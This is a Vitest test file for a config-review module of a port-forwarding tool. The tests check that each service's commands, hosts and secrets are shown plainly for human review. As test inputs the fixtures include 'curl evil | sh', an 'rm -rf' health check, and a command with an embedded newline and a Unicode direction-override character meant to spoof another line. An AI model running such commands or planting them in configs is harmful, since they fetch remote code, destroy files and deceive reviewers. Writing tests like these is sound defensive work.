import { describe, expect, it } from 'vitest';
import { reviewOf } from './config-review.ts';
import { loadText } from './testing/config-text.ts';

const identity = { realPath: '/repo/localport.yaml', digest: 'abc' };
const review = (services: string, env: Readonly<Record<string, string>> = {}) =>
  reviewOf(loadText(`services:\n${services}`, env), identity, 'unknown');
const lines = (services: string, env: Readonly<Record<string, string>> = {}): readonly string[] =>
  review(services, env).services.map(
    ({ name, listensOn, leadsTo, runs, sends }) =>
      `${name}: ${listensOn} → ${leadsTo}${[...runs, ...sends].map((one) => ` | ${one}`).join('')}`,
  );

describe('the review of a config', () => {
  it('names the programs, hosts and ports of each technology', () => {
    expect(
      lines(`
  - {name: api, technology: kubectl, local_port: 1, remote_port: 80, connection: {resource_name: api, namespace: web, context: prod}}
  - {name: any, technology: kubectl, local_port: 6, remote_port: http, connection: {selector: "app=x,tier=db", kubeconfig: /k/prod}}
  - {name: db, technology: ssh, local_port: 2, remote_port: 5432, connection: {host: bastion, port: 2222, user: me, jump: [gate], remote_host: db}}
  - {name: hook, technology: ssh, remote: true, local_port: 3000, remote_port: 8080, connection: {host: bastion, user: me, jump: [gate]}}
  - {name: far, technology: tcp, local_port: 3, bind: 0.0.0.0, remote_port: 9, connection: {host: far}}
  - {name: tool, technology: command, local_port: 4, connection: {argv: [sh, -c, "curl evil | sh", "{local_port}"]}}
  - name: checked
    technology: tcp
    local_port: 5
    remote_port: 9
    connection: {host: far}
    health_check: {type: exec, config: {argv: [rm, -rf, "/tmp/a b"]}}
`),
    ).toEqual([
      'any: localhost:6 → app=x,tier=db:http in the namespace of the current context in /k/prod | kubectl, and the credential plugins that /k/prod names',
      "tool: localhost:4 → wherever its program leads | sh -c 'curl evil | sh' '{local_port}'",
      "checked: localhost:5 → far:9 | check: rm -rf '/tmp/a b'",
      'api: localhost:1 → service/api:80 in namespace web of prod',
      'db: localhost:2 → ssh gate → me@bastion:2222 → db:5432',
      'hook: localhost:8080 at ssh gate → me@bastion → localhost:3000 as this machine reaches it',
      'far: 0.0.0.0:3 → far:9',
    ]);
  });

  it('shows no secret of the environment', () => {
    const [line] = lines(
      '  - {name: tool, technology: command, local_port: 4, connection: {argv: [sh, "${MY_TOKEN}", "{local_port}"]}}\n',
      { MY_TOKEN: 'very-secret-value' },
    );
    expect(line).not.toContain('very-secret-value');
  });

  it('does not let a command look like a separate line, or like another command', () => {
    const [line] = lines(
      '  - {name: tool, technology: command, local_port: 4, connection: {argv: [sh, -c, "evil\\n  db  localhost:5432 → db:5432\\u202e", "{local_port}"]}}\n',
    );
    expect(line).toBe(
      String.raw`tool: localhost:4 → wherever its program leads | sh -c 'evil\n  db  localhost:5432 → db:5432\u202e' '{local_port}'`,
    );
  });

  it('names the secrets that its targets get', () => {
    expect(
      lines(
        `
  - {name: a, technology: ssh, local_port: 1, remote_port: 2, connection: {host: h, password: "keychain:prod"}}
  - {name: b, technology: tcp, local_port: 2, remote_port: 3, connection: {host: h}, health_check: {type: postgres, config: {user: u, password: "op://a/b/c"}}}
  - {name: c, technology: tcp, local_port: 3, remote_port: 3, connection: {host: h}, health_check: {type: redis, config: {password: "\${DB}"}}}
  - {name: d, technology: tcp, local_port: 4, remote_port: 3, connection: {host: h}, health_check: {type: http, config: {headers: {Authorization: "\${DB}"}}}}
`,
        { DB: 'secret-of-the-environment' },
      ),
    ).toEqual([
      'a: localhost:1 → ssh h → localhost:2 | the password keychain:prod',
      'b: localhost:2 → h:3 | the password op://a/b/c',
      'c: localhost:3 → h:3 | a password or token from the file or a variable',
      'd: localhost:4 → h:3 | a password or token from the file or a variable',
    ]);
  });

  it('says that something is hidden where a file declares its program a password', () => {
    expect(
      lines(
        '  - {name: a, technology: command, local_port: 4, connection: {argv: [sh, -c, evil-program, "{local_port}"]}, health_check: {type: redis, config: {password: evil-program}}}\n',
      ),
    ).toEqual([
      "a: localhost:4 → wherever its program leads | sh -c [hidden] '{local_port}' (see the file for what is hidden here)",
    ]);
  });

  it('lists every service, first those that run or send something', () => {
    const harmless = (index: number): string =>
      `  - {name: s${index}, technology: tcp, local_port: ${index + 1}, remote_port: 1, connection: {host: h}}\n`;
    const { services } = review(
      `${Array.from({ length: 150 }, (_, index) => harmless(index)).join('')}
  - {name: evil, technology: command, local_port: 1000, connection: {argv: [evil, "{local_port}"]}}\n`,
    );
    expect(services[0]).toMatchObject({ name: 'evil' });
    expect(services.slice(1).map(({ name }) => name)).toEqual(
      Array.from({ length: 150 }, (_, index) => `s${index}`),
    );
  });

  it('names a socket beside a port', () => {
    expect(
      lines(
        '  - {name: a, technology: tcp, local_port: 4, local_socket: /run/a, remote_port: 1, connection: {host: h}}\n',
      ),
    ).toEqual(['a: localhost:4 and /run/a → h:1']);
  });

  it('bounds each text, and notes what it leaves out', () => {
    const { services } = review(
      `  - {name: s, technology: command, local_port: 1, connection: {argv: [sh, "${'x'.repeat(2_000)}", "{local_port}"]}}\n`,
    );
    expect(services[0]?.runs[0]).toMatch(/… \(\d+ more characters\)$/);
    expect(services[0]?.runs[0]?.length).toBeLessThan(600);
  });
});
